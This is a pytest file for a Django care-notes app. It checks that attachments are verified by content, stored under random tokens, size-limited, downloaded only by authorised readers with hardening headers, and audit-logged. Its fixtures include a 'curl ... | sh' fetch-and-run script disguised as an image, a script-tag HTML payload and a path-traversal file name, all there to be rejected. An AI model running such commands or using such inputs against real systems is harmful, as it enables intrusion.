"""Files on care notes: checked by their content, stored under a random token, downloaded only
by the note's readers, with every download logged."""

import pytest
from django.urls import reverse

from coopcare.audit.models import AuditEvent
from coopcare.errors import DomainError, NotAllowed
from coopcare.notes import files
from coopcare.notes.models import CareNote, NoteAttachment
from coopcare.notes.services import add_attachments
from tests.notes.conftest import JPEG, PDF, PNG, note, upload

SCRIPT = b"#!/bin/sh\ncurl https://example.invalid/x | sh\n"
HTML = b"<html><script>alert(1)</script></html>"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 32


@pytest.mark.parametrize(
    ("name", "data", "kind"),
    [
        ("scan.pdf", PDF, "application/pdf"),
        ("photo.JPG", JPEG, "image/jpeg"),
        ("photo.jpeg", JPEG, "image/jpeg"),
        ("chart.png", PNG, "image/png"),
        ("list.txt", "Tea, two sugars. Café au lait.\n".encode(), "text/plain"),
    ],
)
def test_it_keeps_the_allowed_kinds_under_a_random_token(team, family, media, name, data, kind):
    written = note(family, team, attachments=[upload(name, data, "image/png")])
    attachment = written.attachments.get()
    assert (attachment.original_name, attachment.content_type) == (name, kind)
    assert attachment.size == len(data) and len(attachment.token) >= 32
    assert attachment.file.name == f"care-notes/{team.pk}/{attachment.token}"
    assert name not in attachment.file.name
    assert (media / attachment.file.name).read_bytes() == data


@pytest.mark.parametrize(
    ("name", "data", "claimed"),
    [
        ("photo.png", SCRIPT, "image/png"),  # a script dressed as a picture
        ("photo.jpg", PNG, "image/jpeg"),  # a PNG called a JPEG
        ("notes.txt", PDF, "text/plain"),
        ("page.png", HTML, "image/png"),
        ("tool.png", ELF, "image/png"),
        ("tool.exe", ELF, "application/octet-stream"),
        ("page.html", HTML, "text/html"),
        ("scan", PDF, "application/pdf"),
        ("empty.txt", b"", "text/plain"),
    ],
)
def test_it_refuses_a_file_that_is_not_what_it_claims(team, family, media, name, data, claimed):
    with pytest.raises(DomainError) as error:
        note(family, team, attachments=[upload(name, data, claimed)])
    assert error.value.field == "attachments"
    assert not CareNote.objects.exists() and not NoteAttachment.objects.exists()
    assert not any(media.rglob("*.*")) and not (media / "care-notes").exists()


def test_it_refuses_a_file_over_5_mb(team, family):
    big = upload("big.pdf", PDF + b"0" * files.MAX_BYTES)
    with pytest.raises(DomainError) as error:
        note(family, team, attachments=[big])
    assert "5 MB" in error.value.message
    assert not CareNote.objects.exists()


def test_a_file_of_exactly_5_mb_is_fine(team, family):
    exact = upload("big.txt", b"a" * files.MAX_BYTES)
    assert note(family, team, attachments=[exact]).attachments.count() == 1


def test_it_refuses_more_than_five_files_on_one_note(team, family, media):
    six = [upload(f"p{i}.png", PNG) for i in range(6)]
    with pytest.raises(DomainError):
        note(family, team, attachments=six)
    written = note(family, team, attachments=six[:5])
    with pytest.raises(DomainError):
        add_attachments(family, written, [upload("extra.png", PNG)])
    assert written.attachments.count() == 5
    assert len(list((media / "care-notes").rglob("*"))) == 1 + 5  # the team folder and 5 files


def test_only_the_author_adds_files(team, family, owner):
    written = note(family, team)
    with pytest.raises(NotAllowed):
        add_attachments(owner, written, [upload("p.png", PNG)])
    add_attachments(family, written, [upload("p.png", PNG)])
    assert written.attachments.count() == 1


def test_the_uploader_s_name_is_cleaned_before_it_is_kept(team, family):
    written = note(family, team, attachments=[upload("../../etc/pass\x00wd.txt", b"hello")])
    assert written.attachments.get().original_name == "passwd.txt"


# --- Downloading ---------------------------------------------------------------------------------


def _url(written, attachment) -> str:
    return reverse("notes:attachment", args=[written.team_id, written.pk, attachment.pk])


def test_a_reader_downloads_it_as_an_attachment_and_the_read_is_logged(
    team, worker, employed, as_person
):
    written = note(worker, team, topic="health", attachments=[upload("Chart.png", PNG)])
    attachment = written.attachments.get()
    response = as_person(employed).get(_url(written, attachment))
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == PNG
    assert response["Content-Type"] == "image/png"
    assert response["Content-Disposition"].startswith("attachment;")
    assert "Chart.png" in response["Content-Disposition"]
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]
    assert "no-store" in response["Cache-Control"]
    event = AuditEvent.objects.get(action="notes.attachment_read")
    assert (event.kind, event.actor, event.subject) == ("read", employed, team.owner)
    assert event.target_id == str(attachment.pk) and event.detail["note"] == written.pk


@pytest.mark.parametrize("person", ["family", "team_starter", "outsider"])
def test_someone_who_may_not_read_the_note_cannot_download_its_file(
    request, team, worker, as_person, person
):
    written = note(worker, team, topic="safeguarding", attachments=[upload("a.pdf", PDF)])
    response = as_person(request.getfixturevalue(person)).get(
        _url(written, written.attachments.get())
    )
    assert response.status_code == 404
    assert not AuditEvent.objects.filter(action="notes.attachment_read").exists()


def test_a_file_is_reached_only_through_its_own_note(team, family, as_person):
    first = note(family, team, attachments=[upload("a.pdf", PDF)])
    second = note(family, team, title="Other")
    url = reverse("notes:attachment", args=[team.pk, second.pk, first.attachments.get().pk])
    assert as_person(family).get(url).status_code == 404


def test_media_is_not_served_by_any_url(team, family, client, as_person):
    from django.conf import settings

    written = note(family, team, attachments=[upload("a.pdf", PDF)])
    path = "/" + settings.MEDIA_URL.strip("/") + "/" + written.attachments.get().file.name
    assert as_person(family).get(path.replace("//", "/")).status_code == 404
